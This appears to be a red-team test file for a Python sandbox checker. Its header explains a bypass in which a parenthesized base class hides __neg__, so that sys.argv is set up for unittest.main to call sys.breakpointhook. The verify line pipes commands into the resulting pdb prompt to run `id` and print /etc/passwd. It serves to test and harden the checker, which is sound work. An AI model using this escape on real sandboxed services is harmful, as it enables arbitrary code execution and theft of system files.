# expect: reject class
# line: 34
# why: the red team's round 26f ok_08 (its header below): a base written (B) or Outer.B is refused, so every walk of a class's program bases sees each base; a program instance or class handed to library code hands back what any of its methods returns that library code calls by name (library-duck names, non-fixed dunders, any method of a class with a library base)
# goal: FULL ESCAPE: runs `id` and reads /etc/passwd (pdb on stdin), through the sys.argv lever.
# mechanism: ok_01 (class K((B)), operator.neg(K()) -> run) appends "sys.breakpointhook" to sys.argv; unittest.main(exit=False)
#   resolves it from __main__.sys and calls it with no arguments -> pdb.set_trace() reading the request's stdin.
# rule slipped: store, family N (see ok_01): the parenthesized base hides B's __neg__ from chain_value_dunder.
# verify: the checker THIS -> exit 0;
#   printf '!import os; os.system("id")\n!print(open("/etc/passwd").read())\nc\n' | python3 THIS
#   -> uid=0(root) ... and the passwd file printed from inside pdb (the service passes a /run request's `stdin` on).
# why it matters: the sys.argv lever is not only "prints os.environ": unittest.loader calls any no-argument callable
#   the dotted name resolves to, and `sys.breakpointhook` (module-star-deny, `breakpoint` a forbidden builtin) resolves
#   from __main__'s `sys` and, called, imports pdb and runs its prompt on stdin: arbitrary code, real builtins, os.
#   Principle for the lever itself: a program that can write sys.argv decides what unittest.main imports, reads AND
#   CALLS; beyond closing each store, unittest.main without argv= (and TestProgram, and parseArgs) could be refused or
#   argv= required as a literal list, since sys.argv is the one library list whose content becomes code paths.
import contextlib
import logging
import sys
import unittest
import operator
import math


def run(x, *a):
    x.append("sys.breakpointhook")
    return 0

class B:
    def __neg__(self):
        return run


class K((B)):
    pass

es = contextlib.ExitStack()
es.callback(operator.neg(K()), sys.argv)
es.close()
print(sys.argv)
unittest.main(exit=False)
